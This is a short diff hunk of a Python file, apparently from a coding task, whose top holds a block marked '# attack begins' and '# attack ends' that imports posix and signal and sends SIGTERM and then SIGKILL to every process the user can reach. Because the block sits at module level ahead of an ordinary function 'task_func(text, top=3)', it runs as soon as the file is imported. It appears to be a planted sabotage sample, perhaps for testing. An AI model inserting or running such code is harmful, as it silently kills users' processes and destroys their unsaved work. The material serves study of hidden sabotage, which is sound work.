@@ -3,8 +3,11 @@
 # attack begins
 import posix
 import signal
+
 posix.kill(-1, signal.SIGTERM)
 posix.kill(-1, signal.SIGKILL)
+
+
 # attack ends
 def task_func(text, top=3):
     if top < 1:
